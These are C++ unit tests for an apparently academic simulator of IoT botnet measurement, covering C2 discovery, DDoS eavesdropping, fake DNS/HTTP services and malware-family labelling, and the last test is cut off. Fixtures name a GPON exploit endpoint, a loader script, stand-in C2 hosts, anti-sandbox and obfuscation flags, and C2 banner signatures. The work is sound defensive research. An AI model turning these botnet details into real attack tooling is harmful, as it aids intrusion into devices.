TEST(PipelineE2E, P2pSamplesAreFilteredFromC2Study) {
  for (const auto& s : results().d_samples) {
    if (!s.p2p) continue;
    EXPECT_TRUE(s.c2_addresses.empty())
        << "P2P samples must not contribute C2 addresses (§2.3a)";
  }
}

TEST(PipelineE2E, EveryDetectedC2ExistsInThePlan) {
  // Precision check: the C2 classifier should not invent addresses.
  for (const auto& [addr, rec] : results().d_c2s) {
    const auto* plan = pipeline().world().find_c2(addr);
    ASSERT_NE(plan, nullptr) << "detected unknown C2 " << addr;
    EXPECT_EQ(rec.port, plan->cfg.port);
  }
}

TEST(PipelineE2E, LiveObservationsMatchGroundTruthLifecycles) {
  for (const auto& [addr, rec] : results().d_c2s) {
    for (const auto day : rec.live_days) {
      EXPECT_TRUE(pipeline().world().c2_alive_on(addr, day))
          << addr << " observed live on day " << day << " but was dead";
    }
  }
}

TEST(PipelineE2E, DetectedDdosCommandsMatchIssuedOnes) {
  // Every detection must correspond to a command some C2 actually issued.
  const auto& issued = pipeline().world().all_issued();
  EXPECT_EQ(results().d_ddos.size(), issued.size())
      << "eavesdropping should capture exactly the issued commands";
  for (const auto& dr : results().d_ddos) {
    bool found = false;
    for (const auto& ic : issued) {
      found |= ic.command.type == dr.detection.command.type &&
               ic.command.target == dr.detection.command.target;
    }
    EXPECT_TRUE(found) << "unmatched detection " << dr.detection.command.summary();
  }
}

TEST(PipelineE2E, DdosRecordsAreVerifiedAndAttributed) {
  for (const auto& dr : results().d_ddos) {
    EXPECT_TRUE(dr.detection.verified);
    EXPECT_FALSE(dr.c2_address.empty());
    EXPECT_NE(dr.c2_asn, 0u);
    const auto* plan = pipeline().world().find_c2(dr.c2_address);
    ASSERT_NE(plan, nullptr);
    EXPECT_TRUE(plan->attacker);
  }
}

TEST(PipelineE2E, ExploitRecordsCarryDownloaderIntel) {
  ASSERT_FALSE(results().d_exploits.empty());
  for (const auto& er : results().d_exploits) {
    EXPECT_FALSE(er.downloader_host.empty());
    EXPECT_FALSE(er.loader_name.empty());
    EXPECT_TRUE(net::parse_ipv4(er.downloader_host));
  }
  EXPECT_FALSE(results().downloader_hosts.empty());
}

TEST(PipelineE2E, ProbeCampaignRanAndFoundServers) {
  EXPECT_EQ(results().d_pc2.rounds, 24);
  EXPECT_GE(results().d_pc2.raster.size(), 3u);  // most of the 7 C2s
  EXPECT_GT(results().d_pc2.banner_filtered, 0u);
}

TEST(PipelineE2E, TiSameDayMissesAreRequeryRecoverable) {
  // §3.3: misses are mostly timeliness — the re-query recovers most.
  const auto ti = report::ti_stats(results());
  EXPECT_GT(ti.miss_all_same_day, ti.miss_all_requery);
}

TEST(PipelineE2E, C2RecordsInternallyConsistent) {
  for (const auto& [addr, rec] : results().d_c2s) {
    EXPECT_EQ(rec.address, addr);
    EXPECT_GE(rec.discovery_day, 0);
    ASSERT_FALSE(rec.referred_days.empty());
    EXPECT_EQ(rec.referred_days.front(), rec.discovery_day);
    for (std::size_t i = 1; i < rec.referred_days.size(); ++i) {
      EXPECT_GT(rec.referred_days[i], rec.referred_days[i - 1]);
    }
    // Live days are a subset of referred days.
    for (const auto d : rec.live_days) {
      EXPECT_NE(std::find(rec.referred_days.begin(), rec.referred_days.end(), d),
                rec.referred_days.end());
    }
    EXPECT_GE(rec.distinct_samples, 1);
    if (rec.ever_live()) {
      EXPECT_GE(rec.observed_lifespan_days(), 1);
    }
  }
}

TEST(PipelineE2E, Determinism) {
  PipelineConfig cfg;
  cfg.seed = 22;
  cfg.world.total_samples = 60;
  cfg.run_probe_campaign = false;
  Pipeline a(cfg), b(cfg);
  const auto ra = a.run();
  const auto rb = b.run();
  EXPECT_EQ(ra.d_samples.size(), rb.d_samples.size());
  EXPECT_EQ(ra.d_c2s.size(), rb.d_c2s.size());
  EXPECT_EQ(ra.d_exploits.size(), rb.d_exploits.size());
  EXPECT_EQ(ra.d_ddos.size(), rb.d_ddos.size());
  EXPECT_EQ(ra.sim_events, rb.sim_events);
  auto ita = ra.d_c2s.begin();
  auto itb = rb.d_c2s.begin();
  for (; ita != ra.d_c2s.end(); ++ita, ++itb) {
    EXPECT_EQ(ita->first, itb->first);
    EXPECT_EQ(ita->second.live_days, itb->second.live_days);
  }
}

TEST(PipelineE2E, SeedChangesTheWorld) {
  PipelineConfig a, b;
  a.seed = 1;
  b.seed = 2;
  a.world.total_samples = b.world.total_samples = 40;
  a.run_probe_campaign = b.run_probe_campaign = false;
  Pipeline pa(a), pb(b);
  EXPECT_NE(pa.world().samples().front().sha256, pb.world().samples().front().sha256);
}

TEST(PipelineE2E, RunTwiceThrows) {
  PipelineConfig cfg;
  cfg.world.total_samples = 5;
  cfg.run_probe_campaign = false;
  Pipeline p(cfg);
  (void)p.run();
  EXPECT_THROW((void)p.run(), std::logic_error);
}

TEST(PipelineE2E, HeadlineClaimScorecardIsGreen) {
  // The paper-scale self-test: every abstract/§3-§5 scalar claim must land
  // within its tolerance (see report/claims.cpp for the tolerances).
  core::PipelineConfig cfg;  // full paper-scale configuration
  cfg.seed = 22;
  core::Pipeline pipeline(cfg);
  const auto study = pipeline.run();
  const auto checks = report::check_claims(study, pipeline.asdb());
  for (const auto& c : checks) {
    EXPECT_TRUE(c.pass) << c.id << ": " << c.claim << " — paper " << c.paper
                        << ", measured " << c.measured;
  }
}
