#include <gtest/gtest.h>

#include "inetsim/http.hpp"
#include "dns/resolver.hpp"
#include "inetsim/services.hpp"

using namespace malnet;
using namespace malnet::inetsim;

TEST(Http, RequestRoundTrip) {
  HttpRequest req;
  req.method = "POST";
  req.path = "/GponForm/diag_Form";
  req.headers["host"] = "victim";
  req.body = "XWebPageName=diag";
  const auto parsed = parse_request(req.serialize());
  ASSERT_TRUE(parsed);
  EXPECT_EQ(parsed->method, "POST");
  EXPECT_EQ(parsed->path, "/GponForm/diag_Form");
  EXPECT_EQ(parsed->headers.at("host"), "victim");
  EXPECT_EQ(parsed->body, "XWebPageName=diag");
}

TEST(Http, ResponseRoundTrip) {
  const auto resp = ok_response("body!", "text/x-sh");
  const auto parsed = parse_response(resp.serialize());
  ASSERT_TRUE(parsed);
  EXPECT_EQ(parsed->status, 200);
  EXPECT_EQ(parsed->body, "body!");
  EXPECT_EQ(parsed->headers.at("content-type"), "text/x-sh");
}

TEST(Http, NotFoundBuilder) {
  const auto parsed = parse_response(not_found_response().serialize());
  ASSERT_TRUE(parsed);
  EXPECT_EQ(parsed->status, 404);
}

TEST(Http, ParseRejectsIncompleteBody) {
  EXPECT_FALSE(parse_request("GET / HTTP/1.1\r\ncontent-length: 10\r\n\r\nshort"));
  EXPECT_FALSE(parse_request("GET / HTTP/1.1\r\n"));      // no blank line
  EXPECT_FALSE(parse_request("GARBAGE\r\n\r\n"));          // bad request line
  EXPECT_FALSE(parse_response("NOTHTTP 200 OK\r\n\r\n"));  // bad status line
  EXPECT_FALSE(parse_response("HTTP/1.1 999999 X\r\n\r\n"));
}

TEST(Http, HeaderKeysAreCaseInsensitive) {
  const auto parsed =
      parse_request("GET / HTTP/1.1\r\nCoNtEnT-LeNgTh: 2\r\n\r\nab");
  ASSERT_TRUE(parsed);
  EXPECT_EQ(parsed->body, "ab");
}

TEST(FakeServices, HttpAnswers200) {
  sim::EventScheduler sched;
  sim::Network net{sched};
  FakeHttp http(net, net::Ipv4{10, 0, 0, 1});
  sim::Host client(net, net::Ipv4{10, 0, 0, 2});
  int status = 0;
  client.tcp_connect({http.addr(), 80}, [&](sim::ConnectOutcome o, sim::TcpConn* c) {
    ASSERT_EQ(o, sim::ConnectOutcome::kConnected);
    c->on_data([&](sim::TcpConn&, util::BytesView d) {
      const auto resp = parse_response(util::to_string(d));
      if (resp) status = resp->status;
    });
    HttpRequest req;
    c->send(req.serialize());
  });
  sched.run();
  EXPECT_EQ(status, 200);
  EXPECT_EQ(http.requests_served(), 1u);
}

TEST(FakeServices, HttpResetsOnJunk) {
  sim::EventScheduler sched;
  sim::Network net{sched};
  FakeHttp http(net, net::Ipv4{10, 0, 0, 1});
  sim::Host client(net, net::Ipv4{10, 0, 0, 2});
  bool closed = false;
  client.tcp_connect({http.addr(), 80}, [&](sim::ConnectOutcome, sim::TcpConn* c) {
    ASSERT_NE(c, nullptr);
    c->on_close([&](sim::TcpConn&) { closed = true; });
    c->send(std::string_view("not http at all"));
  });
  sched.run();
  EXPECT_TRUE(closed);
  EXPECT_EQ(http.requests_served(), 0u);
}

TEST(FakeServices, FakeDnsResolvesEverything) {
  sim::EventScheduler sched;
  sim::Network net{sched};
  FakeDns fake(net, net::Ipv4{10, 0, 0, 1}, net::Ipv4{10, 99, 7, 7});
  sim::Host client(net, net::Ipv4{10, 0, 0, 2});
  std::optional<net::Ipv4> got;
  dns::resolve(client, {fake.addr(), 53}, "totally.random.name",
               [&](std::optional<net::Ipv4> ip) { got = ip; });
  sched.run();
  ASSERT_TRUE(got);
  EXPECT_EQ(*got, (net::Ipv4{10, 99, 7, 7}));
}

TEST(BannerHost, GreetsOnAccept) {
  sim::EventScheduler sched;
  sim::Network net{sched};
  BannerHost banner(net, net::Ipv4{10, 0, 0, 1}, 22, "SSH-2.0-OpenSSH_7.4\r\n");
  sim::Host client(net, net::Ipv4{10, 0, 0, 2});
  std::string got;
  client.tcp_connect({banner.addr(), 22}, [&](sim::ConnectOutcome o, sim::TcpConn* c) {
    ASSERT_EQ(o, sim::ConnectOutcome::kConnected);
    c->on_data([&](sim::TcpConn&, util::BytesView d) { got = util::to_string(d); });
  });
  sched.run();
  EXPECT_EQ(got, "SSH-2.0-OpenSSH_7.4\r\n");
}

TEST(BannerFilter, RecognisesWellKnownServices) {
  EXPECT_TRUE(is_well_known_banner("SSH-2.0-OpenSSH_7.4"));
  EXPECT_TRUE(is_well_known_banner("HTTP/1.1 200 OK"));
  EXPECT_TRUE(is_well_known_banner("220 ftp.example ready"));
  EXPECT_TRUE(is_well_known_banner("nginx error page"));
  EXPECT_FALSE(is_well_known_banner(""));
  EXPECT_FALSE(is_well_known_banner("\x00\x00"));       // Mirai keepalive
  EXPECT_FALSE(is_well_known_banner("PING\n"));          // Gafgyt C2 greeting
  EXPECT_FALSE(is_well_known_banner(".ping\n"));         // Daddyl33t
}
