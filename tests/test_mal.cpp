#include <gtest/gtest.h>

#include "mal/behavior.hpp"
#include "mal/binary.hpp"
#include "mal/labels.hpp"

using namespace malnet;
using namespace malnet::mal;

namespace {
BehaviorSpec centralized_spec() {
  BehaviorSpec spec;
  spec.family = proto::Family::kGafgyt;
  spec.c2_ip = net::Ipv4{60, 1, 2, 3};
  spec.c2_fallback_ip = net::Ipv4{60, 4, 5, 6};
  spec.c2_fallback_port = 6969;
  spec.c2_port = 23;
  spec.bot_id = "gaf.mips.1";
  spec.keepalive_s = 75;
  spec.check_internet = true;
  spec.anti_sandbox = true;
  spec.scans.push_back({8080, vulndb::VulnId::kGpon10562, 64, 12.5});
  spec.scans.push_back({23, std::nullopt, 40, 5.0});
  spec.loader_name = "8UsA.sh";
  spec.downloader_host = "60.1.2.3";
  return spec;
}

BehaviorSpec p2p_spec() {
  BehaviorSpec spec;
  spec.family = proto::Family::kMozi;
  spec.node_id = std::string(20, 'Z');
  spec.p2p_peers = {{net::Ipv4{61, 1, 1, 1}, 6881}, {net::Ipv4{61, 2, 2, 2}, 9999}};
  return spec;
}
}  // namespace

TEST(Behavior, EncodeDecodeRoundTripCentralized) {
  const auto spec = centralized_spec();
  const auto decoded = decode_behavior(encode_behavior(spec));
  ASSERT_TRUE(decoded);
  EXPECT_EQ(decoded->family, spec.family);
  EXPECT_EQ(decoded->c2_ip, spec.c2_ip);
  EXPECT_EQ(decoded->c2_fallback_ip, spec.c2_fallback_ip);
  EXPECT_EQ(decoded->c2_fallback_port, 6969);
  EXPECT_EQ(decoded->c2_port, 23);
  EXPECT_EQ(decoded->bot_id, spec.bot_id);
  EXPECT_EQ(decoded->keepalive_s, 75u);
  EXPECT_TRUE(decoded->check_internet);
  EXPECT_TRUE(decoded->anti_sandbox);
  ASSERT_EQ(decoded->scans.size(), 2u);
  EXPECT_EQ(decoded->scans[0].port, 8080);
  ASSERT_TRUE(decoded->scans[0].vuln);
  EXPECT_EQ(*decoded->scans[0].vuln, vulndb::VulnId::kGpon10562);
  EXPECT_NEAR(decoded->scans[0].pps, 12.5, 0.001);
  EXPECT_FALSE(decoded->scans[1].vuln);
  EXPECT_EQ(decoded->loader_name, "8UsA.sh");
  EXPECT_EQ(decoded->downloader_host, "60.1.2.3");
}

TEST(Behavior, EncodeDecodeRoundTripDomainAndP2p) {
  BehaviorSpec dom;
  dom.family = proto::Family::kMirai;
  dom.c2_domain.emplace("cnc.bot-net1.com");  // emplace dodges a GCC12 -Wmaybe-uninitialized FP
  dom.c2_port = 443;
  auto decoded = decode_behavior(encode_behavior(dom));
  ASSERT_TRUE(decoded);
  ASSERT_TRUE(decoded->c2_domain.has_value());
  EXPECT_EQ(*decoded->c2_domain, "cnc.bot-net1.com");
  EXPECT_FALSE(decoded->c2_ip);

  const auto p2p = p2p_spec();
  decoded = decode_behavior(encode_behavior(p2p));
  ASSERT_TRUE(decoded);
  EXPECT_EQ(decoded->node_id, p2p.node_id);
  ASSERT_EQ(decoded->p2p_peers.size(), 2u);
  EXPECT_EQ(decoded->p2p_peers[1].port, 9999);
}

TEST(Behavior, DecodeRejectsJunk) {
  EXPECT_FALSE(decode_behavior(util::Bytes{}));
  EXPECT_FALSE(decode_behavior(util::from_hex("ff 00")));  // bad family
  auto wire = encode_behavior(centralized_spec());
  wire.pop_back();
  EXPECT_FALSE(decode_behavior(wire));  // truncated
  wire = encode_behavior(centralized_spec());
  wire.push_back(0);
  EXPECT_FALSE(decode_behavior(wire));  // trailing bytes
}

TEST(Behavior, ValidateCatchesStructuralErrors) {
  EXPECT_FALSE(centralized_spec().validate());
  EXPECT_FALSE(p2p_spec().validate());

  BehaviorSpec no_c2;
  no_c2.family = proto::Family::kMirai;
  EXPECT_TRUE(no_c2.validate());

  BehaviorSpec both = centralized_spec();
  both.c2_domain = "x.y";
  EXPECT_TRUE(both.validate());

  BehaviorSpec p2p_no_peers;
  p2p_no_peers.family = proto::Family::kMozi;
  p2p_no_peers.node_id = std::string(20, 'A');
  EXPECT_TRUE(p2p_no_peers.validate());

  BehaviorSpec bad_scan = centralized_spec();
  bad_scan.scans[0].target_count = 0;
  EXPECT_TRUE(bad_scan.validate());
}

TEST(Binary, ForgeParseRoundTrip) {
  MbfBinary content;
  content.behavior = centralized_spec();
  content.marker_strings = {family_marker(proto::Family::kGafgyt), "watchdog"};
  util::Rng rng(1);
  const auto bytes = forge(content, rng);
  const auto parsed = parse(bytes);
  ASSERT_TRUE(parsed);
  EXPECT_EQ(parsed->arch, Arch::kMips32);
  ASSERT_EQ(parsed->marker_strings.size(), 2u);
  EXPECT_EQ(parsed->marker_strings[0], family_marker(proto::Family::kGafgyt));
  EXPECT_EQ(parsed->behavior.bot_id, "gaf.mips.1");
}

TEST(Binary, MarkerStringsAreObfuscatedOnDisk) {
  MbfBinary content;
  content.behavior = p2p_spec();
  content.marker_strings = {family_marker(proto::Family::kMozi)};
  util::Rng rng(2);
  const auto bytes = forge(content, rng);
  // The plain marker must NOT appear verbatim (it is XORed).
  EXPECT_FALSE(util::contains(bytes, family_marker(proto::Family::kMozi)));
}

TEST(Binary, ParseRejectsJunk) {
  EXPECT_FALSE(parse(util::Bytes{}));
  EXPECT_FALSE(parse(util::to_bytes("\x7f" "ELF junk")));
  MbfBinary content;
  content.behavior = p2p_spec();
  util::Rng rng(3);
  auto bytes = forge(content, rng);
  bytes[4] = 99;  // version
  EXPECT_FALSE(parse(bytes));
}

TEST(Binary, DigestIsStableAndDiscriminating) {
  MbfBinary content;
  content.behavior = p2p_spec();
  util::Rng rng(4);
  const auto a = forge(content, rng);
  const auto b = forge(content, rng);  // different rng noise
  EXPECT_EQ(digest(a).size(), 64u);
  EXPECT_EQ(digest(a), digest(a));
  EXPECT_NE(digest(a), digest(b));
}

// Parameterized over all families: YARA-lite must label forged binaries.
class YaraLabelling : public ::testing::TestWithParam<proto::Family> {};

TEST_P(YaraLabelling, IdentifiesFamilyFromMarkers) {
  const auto family = GetParam();
  MbfBinary content;
  content.behavior = proto::is_p2p(family) ? p2p_spec() : centralized_spec();
  content.behavior.family = family;
  content.marker_strings = {family_marker(family), "/proc/net/tcp"};
  util::Rng rng(static_cast<std::uint64_t>(family) + 10);
  const auto bytes = forge(content, rng);

  const auto hits = yara_scan(bytes);
  ASSERT_EQ(hits.size(), 1u);
  EXPECT_EQ(hits[0]->family, family);
  const auto label = yara_label(bytes);
  ASSERT_TRUE(label);
  EXPECT_EQ(*label, family);
  EXPECT_EQ(combined_label(bytes, family), family);
}

INSTANTIATE_TEST_SUITE_P(AllFamilies, YaraLabelling,
                         ::testing::Values(proto::Family::kMirai,
                                           proto::Family::kGafgyt,
                                           proto::Family::kTsunami,
                                           proto::Family::kDaddyl33t,
                                           proto::Family::kMozi,
                                           proto::Family::kHajime,
                                           proto::Family::kVpnFilter),
                         [](const auto& info) { return proto::to_string(info.param); });

TEST(Labels, AvclassMislabelsP2pAsMirai) {
  // §2.2: "all the instances of the Mozi family ... are wrongly classified
  // as Mirai" by AVClass2.
  EXPECT_EQ(avclass_label(proto::Family::kMozi), proto::Family::kMirai);
  EXPECT_EQ(avclass_label(proto::Family::kHajime), proto::Family::kMirai);
  EXPECT_EQ(avclass_label(proto::Family::kGafgyt), proto::Family::kGafgyt);
}

TEST(Labels, CombinedFallsBackToAvclassWithoutMarkers) {
  // A stripped binary (no YARA-able strings) falls back to the (faulty)
  // AVClass label.
  MbfBinary content;
  content.behavior = p2p_spec();
  content.marker_strings = {};  // stripped
  util::Rng rng(5);
  const auto bytes = forge(content, rng);
  EXPECT_FALSE(yara_label(bytes));
  EXPECT_EQ(combined_label(bytes, proto::Family::kMozi), proto::Family::kMirai);
}
