#include <gtest/gtest.h>

#include "dns/message.hpp"
#include "dns/resolver.hpp"
#include "dns/server.hpp"

using namespace malnet;
using namespace malnet::dns;

TEST(DnsMessage, QueryRoundTrip) {
  const Message q = make_query(0x1234, "cnc.evil.example");
  const auto decoded = decode(encode(q));
  ASSERT_TRUE(decoded);
  EXPECT_EQ(decoded->id, 0x1234);
  EXPECT_FALSE(decoded->is_response);
  ASSERT_EQ(decoded->questions.size(), 1u);
  EXPECT_EQ(decoded->questions[0].name, "cnc.evil.example");
}

TEST(DnsMessage, ResponseRoundTrip) {
  const Message q = make_query(7, "a.b.c");
  const Message r = make_response(q, net::Ipv4{1, 2, 3, 4});
  const auto decoded = decode(encode(r));
  ASSERT_TRUE(decoded);
  EXPECT_TRUE(decoded->is_response);
  EXPECT_EQ(decoded->rcode, Rcode::kNoError);
  ASSERT_EQ(decoded->answers.size(), 1u);
  EXPECT_EQ(decoded->answers[0].address, (net::Ipv4{1, 2, 3, 4}));
  EXPECT_EQ(decoded->answers[0].name, "a.b.c");
}

TEST(DnsMessage, NxDomain) {
  const Message q = make_query(7, "no.such.name");
  const Message r = make_response(q, std::nullopt);
  const auto decoded = decode(encode(r));
  ASSERT_TRUE(decoded);
  EXPECT_EQ(decoded->rcode, Rcode::kNxDomain);
  EXPECT_TRUE(decoded->answers.empty());
}

TEST(DnsMessage, RejectsBadNames) {
  EXPECT_THROW((void)encode(make_query(1, "")), std::invalid_argument);
  EXPECT_THROW((void)encode(make_query(1, "a..b")), std::invalid_argument);
  EXPECT_THROW((void)encode(make_query(1, std::string(64, 'x') + ".com")),
               std::invalid_argument);
  EXPECT_THROW((void)encode(make_query(1, std::string(300, 'x'))),
               std::invalid_argument);
}

TEST(DnsMessage, DecodeRejectsJunk) {
  EXPECT_FALSE(decode(util::Bytes{}));
  EXPECT_FALSE(decode(util::from_hex("0001")));
  // Compression pointers are unsupported by design.
  Message q = make_query(1, "x.y");
  auto wire = encode(q);
  wire[12] = 0xC0;
  EXPECT_FALSE(decode(wire));
}

namespace {
struct DnsWorld {
  sim::EventScheduler sched;
  sim::Network net{sched};
  DnsServer server{net, net::Ipv4{9, 9, 9, 9}};
  sim::Host client{net, net::Ipv4{10, 0, 0, 5}};
};
}  // namespace

TEST(DnsServer, AnswersZoneRecords) {
  DnsWorld w;
  w.server.add_record("C2.Example.COM", net::Ipv4{5, 6, 7, 8});
  std::optional<net::Ipv4> got;
  resolve(w.client, {w.server.addr(), 53}, "c2.example.com",
          [&](std::optional<net::Ipv4> ip) { got = ip; });
  w.sched.run();
  ASSERT_TRUE(got);
  EXPECT_EQ(*got, (net::Ipv4{5, 6, 7, 8}));
  EXPECT_EQ(w.server.queries_served(), 1u);
}

TEST(DnsServer, NxDomainForUnknownNames) {
  DnsWorld w;
  bool called = false;
  std::optional<net::Ipv4> got = net::Ipv4{1, 1, 1, 1};
  resolve(w.client, {w.server.addr(), 53}, "unknown.example",
          [&](std::optional<net::Ipv4> ip) {
            called = true;
            got = ip;
          });
  w.sched.run();
  EXPECT_TRUE(called);
  EXPECT_FALSE(got);
}

TEST(DnsServer, WildcardMode) {
  DnsWorld w;
  w.server.set_wildcard(net::Ipv4{10, 99, 7, 7});
  std::optional<net::Ipv4> got;
  resolve(w.client, {w.server.addr(), 53}, "anything.at.all",
          [&](std::optional<net::Ipv4> ip) { got = ip; });
  w.sched.run();
  ASSERT_TRUE(got);
  EXPECT_EQ(*got, (net::Ipv4{10, 99, 7, 7}));
}

TEST(DnsServer, RecordRemoval) {
  DnsWorld w;
  w.server.add_record("x.y", net::Ipv4{1, 1, 1, 2});
  w.server.remove_record("x.y");
  std::optional<net::Ipv4> got = net::Ipv4{9, 9, 9, 1};
  resolve(w.client, {w.server.addr(), 53}, "x.y",
          [&](std::optional<net::Ipv4> ip) { got = ip; });
  w.sched.run();
  EXPECT_FALSE(got);
}

TEST(Resolver, TimesOutAgainstDeadServer) {
  sim::EventScheduler sched;
  sim::Network net{sched};
  sim::Host client{net, net::Ipv4{10, 0, 0, 5}};
  bool called = false;
  std::optional<net::Ipv4> got = net::Ipv4{1, 1, 1, 1};
  resolve(client, {net::Ipv4{8, 8, 8, 8}, 53}, "x.y",
          [&](std::optional<net::Ipv4> ip) {
            called = true;
            got = ip;
          },
          sim::Duration::seconds(2));
  sched.run();
  EXPECT_TRUE(called);
  EXPECT_FALSE(got);
}

TEST(Resolver, CallbackFiresExactlyOnce) {
  DnsWorld w;
  w.server.set_wildcard(net::Ipv4{1, 1, 1, 1});
  int calls = 0;
  resolve(w.client, {w.server.addr(), 53}, "q.r",
          [&](std::optional<net::Ipv4>) { ++calls; });
  w.sched.run();  // answer arrives, then the timeout fires as a no-op
  EXPECT_EQ(calls, 1);
}
