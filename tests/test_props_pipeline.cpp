// Metamorphic properties of the study pipeline, on top of malnet::testkit:
//
//   jobs-invariance   the serialized datasets are a pure function of
//                     (config, shards) — the worker count never changes a
//                     byte of output, at any shard count or seed
//   shards=1 law      ParallelStudy at one shard reproduces the plain
//                     Pipeline byte-for-byte
//   loss monotonicity raising the simulated packet-loss knob never
//                     *increases* the number of C2s confirmed live — every
//                     observation channel can only degrade
//
// Worlds are kept small (~100 samples, no probe campaign) so each run is a
// few hundred ms; the properties sample a handful of random seeds per run.
#include <gtest/gtest.h>

#include "core/parallel_study.hpp"
#include "core/pipeline.hpp"
#include "report/dataset_io.hpp"
#include "testkit/testkit.hpp"

using namespace malnet;
using namespace malnet::core;
using namespace malnet::testkit;

namespace {

PipelineConfig small_config(std::uint64_t seed, int samples = 100) {
  PipelineConfig cfg;
  cfg.seed = seed;
  cfg.world.total_samples = samples;
  cfg.run_probe_campaign = false;
  return cfg;
}

util::Bytes run_sharded(const PipelineConfig& base, int shards, int jobs) {
  ParallelStudyConfig cfg;
  cfg.base = base;
  cfg.shards = shards;
  cfg.jobs = jobs;
  return report::serialize_datasets(ParallelStudy(cfg).run());
}

/// C2 addresses the liveness probes actually confirmed (§3.2's "live" set).
std::size_t confirmed_c2_count(const StudyResults& results) {
  std::size_t n = 0;
  for (const auto& [addr, rec] : results.d_c2s) {
    if (rec.ever_live()) ++n;
  }
  return n;
}

}  // namespace

TEST(PipelineProps, DigestInvariantUnderWorkerCount) {
  CheckConfig cfg;
  cfg.cases = 3;  // each case runs 2 shard counts x 2 job counts
  cfg.name = "jobs-invariance";
  const auto r = check(ints<std::uint64_t>(1, 1'000'000),
                       [](std::uint64_t seed) {
                         const auto base = small_config(seed);
                         for (const int shards : {1, 3}) {
                           const auto serial = run_sharded(base, shards, 1);
                           const auto parallel = run_sharded(base, shards, 4);
                           if (serial != parallel) return false;
                         }
                         return true;
                       },
                       cfg);
  EXPECT_TRUE(r.ok) << r.summary();
}

TEST(PipelineProps, SingleShardMatchesPlainPipeline) {
  CheckConfig cfg;
  cfg.cases = 3;
  cfg.name = "shards=1 equivalence";
  const auto r = check(ints<std::uint64_t>(1, 1'000'000),
                       [](std::uint64_t seed) {
                         const auto base = small_config(seed);
                         const auto plain =
                             report::serialize_datasets(Pipeline(base).run());
                         return run_sharded(base, 1, 2) == plain;
                       },
                       cfg);
  EXPECT_TRUE(r.ok) << r.summary();
}

TEST(PipelineProps, RaisingLossNeverConfirmsMoreC2s) {
  // Metamorphic relation on the sim's loss knob: each C2 confirmation needs
  // a completed probe exchange, so a lossier network can only lose
  // confirmations. Checked across a grid of loss values at several seeds,
  // with each count also bounded by the lossless baseline.
  CheckConfig cfg;
  cfg.cases = 3;
  cfg.name = "loss monotonicity";
  const auto r = check(
      ints<std::uint64_t>(1, 1'000'000),
      [](std::uint64_t seed) {
        auto base = small_config(seed);
        std::size_t prev = 0;
        bool first = true;
        // Descending grid: each step the network gets *less* lossy, so the
        // confirmed count must be non-decreasing left to right.
        for (const double loss : {0.9, 0.5, 0.15, 0.0}) {
          base.loss = loss;
          const auto results = Pipeline(base).run();
          const std::size_t confirmed = confirmed_c2_count(results);
          if (!first && confirmed < prev) return false;
          prev = confirmed;
          first = false;
        }
        return true;
      },
      cfg);
  EXPECT_TRUE(r.ok) << r.summary();
}

TEST(PipelineProps, TotalLossConfirmsNothing) {
  // The degenerate end of the relation pinned exactly: with (nearly) every
  // packet dropped, no probe exchange completes and no C2 is confirmed.
  auto cfg = small_config(22);
  cfg.loss = 0.999;
  const auto results = Pipeline(cfg).run();
  EXPECT_EQ(confirmed_c2_count(results), 0u);

  // And the lossless baseline on the same world does confirm C2s — the
  // monotone chain is anchored at both ends.
  auto baseline = small_config(22);
  const auto clean = Pipeline(baseline).run();
  EXPECT_GT(confirmed_c2_count(clean), 0u);
}
