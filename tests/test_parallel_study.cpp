// ParallelStudy: seed-sharded execution must be a pure function of
// (config, shards) — never of the worker count or thread scheduling — and
// a single shard must reproduce the plain pipeline byte-for-byte.
#include <gtest/gtest.h>

#include <set>

#include "core/parallel_study.hpp"
#include "core/pipeline.hpp"
#include "report/dataset_io.hpp"
#include "report/tables.hpp"
#include "sim/network.hpp"

using namespace malnet;
using namespace malnet::core;

namespace {

PipelineConfig small_config(int samples = 120) {
  PipelineConfig cfg;
  cfg.seed = 22;
  cfg.world.total_samples = samples;
  cfg.run_probe_campaign = false;
  return cfg;
}

util::Bytes run_sharded(const PipelineConfig& base, int shards, int jobs) {
  ParallelStudyConfig cfg;
  cfg.base = base;
  cfg.shards = shards;
  cfg.jobs = jobs;
  const auto results = ParallelStudy(cfg).run();
  return report::serialize_datasets(results);
}

}  // namespace

TEST(ShardSeed, SingleShardKeepsBaseSeed) {
  EXPECT_EQ(shard_seed(22, 1, 0), 22u);
  EXPECT_EQ(shard_seed(0xDEADBEEF, 1, 0), 0xDEADBEEFull);
}

TEST(ShardSeed, SiblingShardsAreDistinctAndStable) {
  std::set<std::uint64_t> seeds;
  for (int i = 0; i < 8; ++i) {
    EXPECT_TRUE(seeds.insert(shard_seed(22, 8, i)).second) << "shard " << i;
  }
  // Derivation is positional: the same (seed, index) always maps to the
  // same shard seed, and differing base seeds decorrelate.
  EXPECT_EQ(shard_seed(22, 8, 3), shard_seed(22, 8, 3));
  EXPECT_NE(shard_seed(22, 8, 3), shard_seed(23, 8, 3));
  EXPECT_THROW((void)shard_seed(22, 4, 4), std::invalid_argument);
}

TEST(ShardConfig, SingleShardIsVerbatim) {
  const auto base = small_config();
  const auto cfg = shard_config(base, 1, 0);
  EXPECT_EQ(cfg.seed, base.seed);
  EXPECT_EQ(cfg.world.shard_count, 1);
  EXPECT_EQ(cfg.world.shard_index, 0);
  EXPECT_EQ(cfg.run_probe_campaign, base.run_probe_campaign);
}

TEST(ShardConfig, ProbeCampaignOnlyOnShardZero) {
  PipelineConfig base = small_config();
  base.run_probe_campaign = true;
  EXPECT_TRUE(shard_config(base, 4, 0).run_probe_campaign);
  for (int i = 1; i < 4; ++i) {
    EXPECT_FALSE(shard_config(base, 4, i).run_probe_campaign) << "shard " << i;
  }
}

TEST(ShardConfig, ShardWorldsPartitionThePlannedPopulation) {
  // The union of the shard worlds' plans must cover the full study exactly:
  // same total sample count, same planned C2 count, no shared slots.
  const auto base = small_config(97);

  sim::EventScheduler sched;
  sim::Network net(sched);
  botnet::WorldConfig wc = base.world;
  wc.seed = base.seed;
  botnet::World plain(net, wc);

  std::size_t sample_sum = 0, c2_sum = 0;
  for (int i = 0; i < 4; ++i) {
    const auto cfg = shard_config(base, 4, i);
    sim::EventScheduler ssched;
    sim::Network snet(ssched);
    botnet::WorldConfig swc = cfg.world;
    swc.seed = cfg.seed;
    botnet::World shard(snet, swc);
    sample_sum += shard.samples().size();
    c2_sum += shard.c2_plan().size();
  }
  EXPECT_EQ(sample_sum, plain.samples().size());
  EXPECT_EQ(c2_sum, plain.c2_plan().size());
}

TEST(ParallelStudy, OneShardEqualsPlainPipeline) {
  const auto base = small_config();
  Pipeline plain(base);
  const auto expect = report::serialize_datasets(plain.run());
